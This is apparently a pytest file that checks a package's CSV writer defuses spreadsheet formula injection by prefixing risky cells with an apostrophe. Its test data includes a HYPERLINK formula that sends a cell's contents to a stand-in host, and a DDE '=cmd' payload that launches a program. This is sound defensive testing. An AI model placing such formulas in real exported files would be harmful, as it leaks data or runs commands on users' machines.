"""Formulas in the cells of tables: harmless in every CSV file, and read again as they were."""

from __future__ import annotations

import ast
import csv
import io
import json
import shutil
import subprocess
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

import circuitwatch
from circuitwatch.spreadsheets import as_read, csv_of, harmless, table_of, write_csv
from circuitwatch.summary.importers.tables import read_columns

FORMULAS = [
    '=HYPERLINK("http://elsewhere/?"&A1,"open")',
    *("=1+1", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "=", "-x", "+ 1"),
    *("\uff1d1", "'=1", "''=1", "'-", "=cmd|' /C calc'!A0", "-1 2", "+1e", "--1"),
]
TEXTS = ["pythia-160m", "", "a=b", "'quoted'", "'", "it's", "1-2", "é", "–0.5", " =1"]
NUMBERS = ["-1", "+1", "-2.5", "-.5", "-1e-5", "+3E8", "-inf"]
BEGINNINGS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


def test_a_dash_alone_is_none() -> None:
    """In our tables it stands for "no task"; it is looked up by that name."""
    assert harmless("-") == "-" == as_read("-")


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_an_apostrophe(text: str) -> None:
    assert harmless(text) == "'" + text and as_read(harmless(text)) == text


@pytest.mark.parametrize("text", [*TEXTS, *NUMBERS])
def test_other_texts_stay(text: str) -> None:
    assert harmless(text) == text and as_read(text) == text


@pytest.mark.parametrize("value", [-1, -2.5, None, float("-inf"), np.float32(-1), True])
def test_numbers_stay(value: object) -> None:
    assert harmless(value) is value and as_read(value) is value


def test_what_is_written_is_read_again(tmp_path: Path) -> None:
    texts = [*FORMULAS, *(text for text in TEXTS if text)]
    table = pd.DataFrame({"model": texts, "value": -np.arange(len(texts)) / 4, "n": -3})
    table.loc[0, "value"] = np.nan
    before = table.copy()
    path = tmp_path / "table.csv"
    write_csv(table, path)
    pd.testing.assert_frame_equal(table, before)  # it was not changed itself
    with path.open(encoding="utf-8", newline="") as file:
        cells = [row[0] for row in csv.reader(file)]
    assert len(cells) == 1 + len(texts)
    assert not any(cell.startswith(BEGINNINGS) for cell in cells)
    pd.testing.assert_frame_equal(table_of(csv_of(table)), table, check_dtype=False)


def test_importers_read_what_was_written(tmp_path: Path) -> None:
    """Those that a line's end is part of are left out: pyarrow reads no such cell."""
    texts = [text for text in FORMULAS if not set("\r\n") & set(text)]
    table = pd.DataFrame({"model": texts, "value": np.arange(len(texts)) - 4.5})
    write_csv(table, tmp_path / "table.csv")
    frame, _ = read_columns(tmp_path / "table.csv", ["model", "value"])
    assert list(frame["model"]) == texts and list(frame["value"]) == list(table["value"])


def test_tables_are_written_nowhere_else() -> None:
    package = Path(circuitwatch.__file__).parent
    forbidden = {"to_csv", "writer", "DictWriter", "write_csv", "to_excel"}
    for path in sorted(package.rglob("*.py")):
        if path.name == "spreadsheets.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Attribute) and node.attr in forbidden:
                pytest.fail(f"{path}:{node.lineno}: .{node.attr}; take spreadsheets.write_csv")


@pytest.mark.skipif(not shutil.which("node"), reason="node is not installed")
def test_the_reports_own_file_is_made_the_same_way() -> None:
    """The page's own function for a cell, run on the same texts; it quotes too."""
    module = Path(circuitwatch.__file__).parent / "summary/report/templates/js/format.js"
    texts = [*FORMULAS, *TEXTS, *NUMBERS[:-1]]
    program = (
        f"import {{ csvCell }} from {json.dumps(module.as_uri())};"
        f"console.log(JSON.stringify({json.dumps(texts)}.map(csvCell)))"
    )
    command = ["node", "--input-type=module", "-e", program]
    done = subprocess.run(command, capture_output=True, text=True, check=True)
    cells = json.loads(done.stdout)
    rows = [next(csv.reader(io.StringIO(f"{cell},x", newline=""), strict=True)) for cell in cells]
    assert [row[0] for row in rows] == [harmless(text) for text in texts]
